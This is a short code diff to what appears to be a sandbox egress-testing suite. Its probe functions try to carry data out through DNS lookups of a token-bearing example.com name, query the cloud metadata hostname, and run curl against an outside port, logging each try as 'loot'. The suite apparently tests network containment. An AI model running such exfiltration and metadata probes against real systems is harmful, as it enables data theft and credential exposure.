@@ -271,7 +271,8 @@ def victim_s_sockets(aim: Aim, loot: Loot) -> None:
 def names(aim: Aim, loot: Loot) -> None:
     """Data carried out by questions for names; the suite's own name server hears them."""
     socket = reach("socket")
-    for name in (f"exfiltrated-{aim.token}.example.com", "localhost", "metadata.google.internal"):
+    # Not `localhost`, which any file of hosts knows; what is there is tried by `handler_s_port`.
+    for name in (f"exfiltrated-{aim.token}.example.com", "metadata.google.internal"):
         loot.attempt(
             f"name {name}",
             lambda name=name: [
@@ -303,7 +304,8 @@ def by_programs(aim: Aim, loot: Loot) -> None:
             f"curl {address}",
             run_program,
             "/usr/bin/curl",
-            "-s",
+            # Without the proxy's own words, which say what it refuses.
+            "-sf",
             "-m",
             "1",
             f"http://{where}:{aim.outside_port}/",
